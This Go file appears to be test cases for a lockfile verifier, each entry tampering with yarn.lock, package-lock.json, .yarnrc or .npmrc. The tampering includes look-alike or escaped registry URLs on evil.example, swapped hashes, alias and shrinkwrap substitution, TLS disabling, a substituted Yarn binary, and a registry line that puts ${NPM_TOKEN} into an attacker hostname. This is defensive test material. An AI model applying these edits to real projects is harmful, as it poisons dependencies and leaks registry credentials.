//go:build unix

package main

import "strings"

func classicMSAs(lines string) func(t tree) {
	return lockSub(classicMS, "ms@^2.0.0:\n"+lines)
}

func resolvedTo(url string) func(t tree) {
	return lockSub("https://registry.npmjs.org/ms/-/ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2", url, sriMS, sriLeftPad)
}

const (
	classicTail    = "  version \"2.1.3\"\n  resolved \"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2\"\n"
	classicLeftPad = "  version \"1.3.0\"\n  resolved \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\"\n  integrity " + sriLeftPad + "\n"
)

var classicAttacks = []attack{
	{name: "no integrity", edit: classicMSAs(classicTail)},
	{name: "neither integrity nor hash", edit: classicMSAs("  version \"2.1.3\"\n  resolved \"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz\"\n")},
	{name: "no address", edit: classicMSAs("  version \"2.1.3\"\n")},
	{name: "address of another package", edit: resolvedTo("https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz")},
	{name: "address of another version", edit: lockSub("ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2", "ms-0.7.1.tgz", sriMS, sriOldMS)},
	{name: "SHA-1 only", edit: lockSub(sriMS, "sha1-V0yBOM4dK1hh8LRFedut1gxmFbI=")},
	{name: "two hashes", edit: lockSub(sriMS, sriMS+" "+sriLeftPad)},
	{name: "a hash changed", edit: lockSub(sriMS, sriLeftPad)},
	{name: "a hash of an unknown kind", edit: lockSub(sriMS, "md9-AAAA")},
	{name: "http", edit: lockSub("https://registry.npmjs.org/ms", "http://registry.npmjs.org/ms")},
	{name: "another host", edit: lockSub("https://registry.npmjs.org/ms", "https://evil.example/ms")},
	{name: "a host as a user's name", edit: resolvedTo("https://registry.npmjs.org@evil.example/ms/-/ms-2.1.3.tgz")},
	{name: "a host with a dot", edit: resolvedTo("https://registry.npmjs.org.evil.example/ms/-/ms-2.1.3.tgz")},
	{name: "a host with a port", edit: resolvedTo("https://registry.npmjs.org:8443/ms/-/ms-2.1.3.tgz")},
	{name: "a backslash", edit: resolvedTo(`https://evil.example\\@registry.npmjs.org/ms/-/ms-2.1.3.tgz`)},
	{name: "dots in the path", edit: resolvedTo("https://registry.npmjs.org/ms/-/../../left-pad/-/left-pad-1.3.0.tgz")},
	{name: "dots behind the path", edit: resolvedTo("https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz?/ms/-/ms-2.1.3.tgz")},
	{name: "escaped dots", edit: resolvedTo("https://registry.npmjs.org/ms/-/%2e%2e/%2e%2e/left-pad/-/left-pad-1.3.0.tgz")},
	{name: "a fragment that looks like a path", edit: resolvedTo("https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz#/ms/-/ms-2.1.3.tgz")},
	{name: "another scope", edit: resolvedTo("https://registry.npmjs.org/@evil/ms/-/ms-2.1.3.tgz")},
	{name: "another scope, escaped", edit: resolvedTo("https://registry.npmjs.org/@evil%2fms/-/ms-2.1.3.tgz")},
	{name: "double slashes", edit: resolvedTo("https://registry.npmjs.org//left-pad/-/left-pad-1.3.0.tgz")},
	{name: "alias of malware", edit: func(t tree) {
		t.sub("package.json", `"ms": "^2.0.0"`, `"ms": "^2.0.0", "pad": "npm:left-pad@^1.0.0"`).add("yarn.lock", "\n\"pad@npm:left-pad@^1.0.0\":\n"+classicLeftPad)
	}},
	{name: "malware under the range of another", edit: classicMSAs(classicLeftPad)},
	{name: "version with a v", edit: lockSub(`version "2.1.3"`, `version "v2.1.3"`)},
	{name: "version of another than the address", edit: lockSub(`version "2.1.3"`, `version "2.1.2"`)},
	{name: "the same key twice", edit: func(t tree) { t.add("yarn.lock", "\nms@^2.0.0:\n"+classicLeftPad) }},
	{name: "the same key twice, quoted", edit: func(t tree) { t.add("yarn.lock", "\n\"ms@^2.0.0\":\n"+classicLeftPad) }},
	{name: "the same key in a longer one", edit: func(t tree) { t.add("yarn.lock", "\nms@^2.0.0, ms@^2.9.0:\n"+classicLeftPad) }},
	{name: "a key with escapes", edit: func(t tree) { t.add("yarn.lock", "\n\"\\u006ds@^2.0.0\":\n"+classicLeftPad) }},
	{name: "a member twice", edit: lockSub("  integrity "+sriMS+"\n", "  integrity "+sriMS+"\n  resolved \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\"\n")},
	{name: "a git tarball", edit: resolvedTo("https://codeload.github.com/evil/ms/tar.gz/0123456789012345678901234567890123456789")},
	{name: "a git repository", edit: classicMSAs("  version \"2.1.3\"\n  resolved \"git+https://github.com/evil/ms.git#0123456789012345678901234567890123456789\"\n")},
	{name: "a tarball in the repository", edit: func(t tree) { resolvedTo("file:vendor/ms.tgz")(t); t.set("vendor/ms.tgz", "evil") }},
	{name: "an offline mirror in the repository", edit: func(t tree) {
		resolvedTo("ms-2.1.3.tgz")(t)
		t.set("mirror/ms-2.1.3.tgz", "evil", ".yarnrc", "yarn-offline-mirror \"./mirror\"\n")
	}},
	{name: "an offline mirror, the lock as it was", edit: func(t tree) {
		t.set("mirror/ms-2.1.3.tgz", "evil", ".yarnrc", "yarn-offline-mirror \"./mirror\"\n")
	}},
	{name: "a relative address", edit: resolvedTo("../evil/ms-2.1.3.tgz")},
	{name: "conflict markers", edit: lockSub(classicMS, "<<<<<<< HEAD\n"+classicMS+"=======\nms@^2.0.0:\n"+classicLeftPad+">>>>>>> other\n")},
	{name: "a member behind a carriage return", edit: lockSub("  integrity "+sriMS+"\n", "  integrity "+sriMS+" # x\r  resolved \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\"\n")},
	{name: "tabs", edit: lockSub("  integrity "+sriMS, "\tintegrity "+sriLeftPad)},
	{name: "BOM, and malware", edit: func(t tree) {
		classicMSAs(classicLeftPad)(t)
		t["yarn.lock"] = "\ufeff" + t["yarn.lock"]
	}},
	{name: "a dependency more, locked", edit: func(t tree) {
		t.sub("yarn.lock", "  integrity "+sriMS+"\n", "  integrity "+sriMS+"\n  dependencies:\n    left-pad \"^1.0.0\"\n").add("yarn.lock", "\nleft-pad@^1.0.0:\n"+classicLeftPad)
	}},
	{name: "an optional dependency more, locked", edit: func(t tree) {
		t.sub("yarn.lock", "  integrity "+sriMS+"\n", "  integrity "+sriMS+"\n  optionalDependencies:\n    left-pad \"^1.0.0\"\n").add("yarn.lock", "\nleft-pad@^1.0.0:\n"+classicLeftPad)
	}},
	{name: "registry in .yarnrc", edit: func(t tree) { t.set(".yarnrc", "registry \"https://evil.example/\"\n") }},
	{name: "registry in .npmrc", edit: func(t tree) { t.set(".npmrc", "registry=https://evil.example/\n") }},
	{name: "scope's registry in .npmrc", edit: func(t tree) { t.set(".npmrc", "@backstage:registry=https://evil.example/\n") }},
	{name: "another Yarn in .yarnrc", edit: func(t tree) {
		t.set(".yarnrc", "yarn-path \"./evil.js\"\n", "evil.js", "evil")
	}},
	{name: "another Yarn, with a key in quotes", edit: func(t tree) {
		t.set(".yarnrc", "\"yarn-path\" \"./evil.js\"\n", "evil.js", "evil")
	}},
	{name: "another Yarn, by .yarnrc.yml", edit: func(t tree) {
		t.set(".yarnrc.yml", "yarnPath: ./evil.js\n", "evil.js", "evil")
	}},
	{name: "TLS is not looked at", edit: func(t tree) { t.set(".npmrc", "strict-ssl=false\n") }},
	{name: "a CA of its own", edit: func(t tree) { t.set(".npmrc", "cafile=./ca.pem\n", "ca.pem", "x") }},
	{name: "a proxy", edit: func(t tree) { t.set(".npmrc", "https-proxy=http://evil.example:8080\n") }},
	{name: "a secret in a host", edit: func(t tree) { t.set(".npmrc", "registry=https://${NPM_TOKEN}.evil.example/\n") }},
	{name: "a shell for the scripts", edit: func(t tree) { t.set(".npmrc", "script-shell=./evil.sh\n", "evil.sh", "evil") }},
	{name: "flags for every command", edit: func(t tree) { t.set(".yarnrc", "--install.update-checksums true\n--no-lockfile true\n") }},
	{name: "no lock, by a flag", edit: func(t tree) { t.set(".yarnrc", "--install.no-lockfile true\n") }},
	{name: "checksums are updated, by a setting", edit: func(t tree) { t.set(".yarnrc", "--update-checksums true\n") }},
	{name: "a package-lock beside it, with malware", edit: func(t tree) {
		t.set("package-lock.json", strings.ReplaceAll(strings.ReplaceAll(npmLock, "ms", "left-pad"), "2.1.3", "1.3.0"))
	}},
	{name: "a lock of Yarn 4 instead", edit: func(t tree) {
		t["yarn.lock"] = strings.Replace(attackBase("berry")["yarn.lock"], msEntry, "\"ms@npm:^2.0.0\":\n"+leftPadTail, 1)
	}},
	{name: "resolutions, not in the lock", edit: func(t tree) {
		t.sub("package.json", `"dependencies"`, `"resolutions": {"is-number": "6.0.0"}, "dependencies"`)
	}},
}

var npmAttacks = []attack{
	{name: "address of another package", edit: func(t tree) { t.sub("package-lock.json", "/ms/-/ms-2.1.3", "/left-pad/-/left-pad-1.3.0") }},
	{name: "address of another version", edit: func(t tree) { t.sub("package-lock.json", "/ms/-/ms-2.1.3", "/ms/-/ms-0.7.1") }},
	{name: "no integrity", edit: func(t tree) { t.sub("package-lock.json", `, "integrity": "`+sriMS+`"`, "") }},
	{name: "a hash changed", edit: func(t tree) { t.sub("package-lock.json", sriMS, sriLeftPad) }},
	{name: "another host", edit: func(t tree) { t.sub("package-lock.json", "https://registry.npmjs.org/ms", "https://evil.example/ms") }},
	{name: "another name", edit: func(t tree) {
		t.sub("package-lock.json", `{"version": "2.1.3"`, `{"name": "left-pad", "version": "1.3.0"`)
	}},
	{name: "a link out of the repository", edit: func(t tree) {
		t.sub("package-lock.json", `{"version": "2.1.3", "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"`, `{"link": true, "resolved": "../evil"`)
	}},
	{name: "a member twice", edit: func(t tree) {
		t.sub("package-lock.json", `"integrity"`, `"resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "integrity"`)
	}},
	{name: "a member in capitals", edit: func(t tree) {
		t.sub("package-lock.json", `"packages": {`, `"Packages": {"": {"name": "root", "dependencies": {"ms": "^2.0.0"}}}, "packages": {`, `"node_modules/ms": {`, `"node_modules/left-pad": {"version": "1.3.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "integrity": "`+sriLeftPad+`"}, "node_modules/ms": {`)
	}},
	{name: "a member in capitals, last", edit: func(t tree) {
		t.sub("package-lock.json", "  }\n}\n", "  },\n \"Packages\": {\"\": {\"name\": \"root\"}}}\n", `"node_modules/ms": {`, `"node_modules/left-pad": {"version": "1.3.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "integrity": "`+sriLeftPad+`"}, "node_modules/ms": {`)
	}},
	{name: "a shrinkwrap, which comes first", edit: func(t tree) {
		t.set("npm-shrinkwrap.json", strings.ReplaceAll(strings.ReplaceAll(npmLock, "ms", "left-pad"), "2.1.3", "1.3.0"))
	}},
	{name: "an unknown version of the lock", edit: func(t tree) { t.sub("package-lock.json", `"lockfileVersion": 3`, `"lockfileVersion": 9`) }},
	{name: "a dependency that is not in the lock", edit: func(t tree) {
		t.sub("package.json", `"ms": "^2.0.0"`, `"ms": "^2.0.0", "left-pad": "^1.0.0"`)
	}},
}
